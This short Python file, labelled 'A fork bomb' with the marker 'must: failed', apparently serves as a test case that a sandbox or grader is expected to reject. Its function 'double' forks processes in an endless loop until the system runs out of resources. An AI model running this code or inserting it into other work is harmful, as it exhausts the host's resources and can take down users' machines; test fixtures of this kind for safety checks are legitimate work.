"""A fork bomb.

must: failed
"""

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            return x
